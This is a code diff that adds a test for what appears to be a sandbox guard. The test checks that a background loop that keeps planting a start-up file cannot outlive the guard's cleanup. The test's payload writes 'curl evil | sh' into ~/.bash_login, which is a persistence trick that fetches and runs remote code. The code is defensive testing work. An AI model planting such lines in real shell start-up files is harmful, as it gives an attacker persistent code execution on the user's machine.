@@ -311,3 +311,19 @@ def test_git_walk_of_a_large_tree_is_fast(tmp_path: Path):
     elapsed = time.perf_counter() - t0
     assert found == [str(deep / ".git")]
     assert elapsed < 2.0, elapsed
+
+
+def test_background_planter_cannot_outlive_the_guard(sandbox: SandboxRun, fake_home: Path):
+    """A loop left running that keeps re-creating a start-up file: the guard runs only once the
+    sandbox's PID namespace is gone, so nothing can plant after the check."""
+    import time
+
+    r = sandbox(
+        "(while :; do echo 'curl evil | sh' > ~/.bash_login 2>/dev/null; done) & sleep 0.3; echo started",
+        fake_home,
+        home=fake_home,
+    )
+    assert "started" in r.output, r.output
+    time.sleep(0.5)
+    assert not os.path.lexists(fake_home / ".bash_login")
+    assert any(".bash_login" in n and "moved to" in n for n in r.notes), r.notes
